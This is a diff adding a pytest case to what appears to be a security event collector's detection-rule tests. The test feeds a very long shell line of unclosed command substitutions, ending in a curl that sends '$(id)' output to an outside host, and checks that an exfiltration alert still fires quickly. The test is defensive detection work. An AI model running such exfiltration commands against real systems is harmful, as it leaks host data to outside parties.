@@ -63,6 +63,18 @@ def test_an_argv_built_against_the_host_parsers_is_evaluated_and_still_matches(t
     assert any(a.rule_id == "staged-program-given-outside-host" for a in app.store.alerts())
 
 
+def test_a_line_of_urls_built_against_the_url_parser_is_evaluated_and_still_matches(tmp_path):
+    """~45 KB of in-site URLs, each opening 200 command substitutions that never close, then one URL out with a
+    command's output in it: every URL's span is bounded and read once (collector/rules/remotes.py), and the last
+    one is still found."""
+    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
+    line = ('curl "https://h.cluster.local/' + "$(" * 200 + '" ') * 100 + 'curl "https://c.drop-zone.io/?d=$(id)"'
+    start = time.perf_counter()
+    app.policy.on_events("h1", [exec_event(1, ["/bin/sh", "-c", line])])
+    print(f"\n{len(line) // 1000} KB of URLs through every built-in rule: {time.perf_counter() - start:.3f}s")
+    assert any(a.rule_id == "command-output-sent-in-url" for a in app.store.alerts())
+
+
 def test_yaml_alias_bomb_is_refused_with_a_short_error():
     bomb = "lists:\n  a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
         f"  {chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
